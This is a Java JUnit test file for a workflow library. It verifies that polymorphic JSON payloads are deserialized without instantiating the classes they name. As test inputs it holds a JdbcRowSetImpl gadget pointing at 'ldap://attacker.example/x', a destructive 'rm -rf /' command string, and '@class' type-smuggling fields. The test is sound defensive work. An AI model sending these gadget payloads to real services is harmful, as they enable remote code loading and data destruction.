package dev.durable.common;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.durable.client.WorkflowHistory;
import dev.durable.internal.model.Payload;
import dev.durable.internal.service.WorkflowService;
import dev.durable.testing.TestEnv;
import dev.durable.workflow.WorkflowInterface;
import dev.durable.workflow.WorkflowMethod;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Payloads are read without Jackson's default typing: a payload naming a class (the way
 * deserialization gadget attacks do) arrives as plain lists and maps, and no class it names is
 * instantiated. The payloads are sent straight to the service, as a hostile client would.
 */
class PolymorphicPayloadTest {
  /** Stands in for a gadget: any instance of it would be an attack that worked. */
  public static final class Gadget {
    static final AtomicInteger INSTANCES = new AtomicInteger();
    public String command;

    public Gadget() {
      INSTANCES.incrementAndGet();
    }

    public void setCommand(String command) {
      INSTANCES.incrementAndGet();
      this.command = command;
    }
  }

  @WorkflowInterface
  public interface Inspector {
    /** Returns the class and the value it received. */
    @WorkflowMethod
    String run(Object value);
  }

  public static final class InspectorImpl implements Inspector {
    @Override
    public String run(Object value) {
      return value.getClass().getName() + " " + value;
    }
  }

  @WorkflowInterface
  public interface Typed {
    @WorkflowMethod
    String run(Gadget gadget);
  }

  @TempDir Path dir;
  private TestEnv env;

  @BeforeEach
  void open() {
    Gadget.INSTANCES.set(0);
    env = TestEnv.open(dir);
    env.startWorker(b -> b.registerWorkflowImplementationTypes(InspectorImpl.class, TypedImpl.class));
  }

  @AfterEach
  void close() {
    env.close();
  }

  private String startInspector(String id, String json) {
    WorkflowService service = env.client().workflowService();
    service.start(new WorkflowService.StartRequest(id, "Inspector", TestEnv.TASK_QUEUE,
        List.of(new Payload(Payload.JSON, json.getBytes(StandardCharsets.UTF_8))), Duration.ofSeconds(10)));
    return env.result(id, String.class);
  }

  @Test
  void arrayNamingAJdkGadgetClassArrivesAsAListAndNothingIsLookedUp() {
    String result = startInspector("jdbc", "[\"com.sun.rowset.JdbcRowSetImpl\","
        + " {\"dataSourceName\": \"ldap://attacker.example/x\", \"autoCommit\": true}]");

    assertEquals("java.util.ArrayList [com.sun.rowset.JdbcRowSetImpl, {dataSourceName=ldap://attacker.example/x,"
        + " autoCommit=true}]", result);
  }

  @Test
  void arrayNamingAGadgetClassArrivesAsAListWithoutInstantiatingIt() {
    String result = startInspector("array", "[\"" + Gadget.class.getName() + "\", {\"command\": \"rm -rf /\"}]");

    assertEquals("java.util.ArrayList [" + Gadget.class.getName() + ", {command=rm -rf /}]", result);
    assertEquals(0, Gadget.INSTANCES.get());
  }

  @Test
  void classPropertyNamingAGadgetClassArrivesAsAMapWithoutInstantiatingIt() {
    String result = startInspector("at-class", "{\"@class\": \"" + Gadget.class.getName() + "\", \"command\": \"x\"}");

    assertEquals("java.util.LinkedHashMap {@class=" + Gadget.class.getName() + ", command=x}", result);
    assertEquals(0, Gadget.INSTANCES.get());
  }

  @Test
  void payloadForATypedParameterIsReadAsThatTypeOnlyNotAsTheClassItNames() {
    // A type name in the payload cannot pick another class than the parameter's.
    WorkflowService service = env.client().workflowService();
    service.start(new WorkflowService.StartRequest("typed", "Typed", TestEnv.TASK_QUEUE, List.of(new Payload(Payload.JSON,
        "{\"@class\": \"com.sun.rowset.JdbcRowSetImpl\", \"command\": \"x\"}".getBytes(StandardCharsets.UTF_8))),
        Duration.ofSeconds(10)));

    assertEquals(Gadget.class.getName() + " x", env.result("typed", String.class));
  }

  @Test
  void historyNamingAClassAsItsEventTypeIsRefused() {
    IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> WorkflowHistory.fromJson(
        "{\"events\": [{\"eventId\": 1, \"eventType\": \"com.sun.rowset.JdbcRowSetImpl\", \"attributes\":"
            + " {\"dataSourceName\": \"ldap://attacker.example/x\"}}]}"));

    assertTrue(e.getMessage().startsWith("DURABLE-218 cannot read workflow history JSON"), e.getMessage());
    assertTrue(e.getMessage().contains("com.sun.rowset.JdbcRowSetImpl"), e.getMessage());
  }

  public static final class TypedImpl implements Typed {
    @Override
    public String run(Gadget gadget) {
      return gadget.getClass().getName() + " " + gadget.command;
    }
  }
}
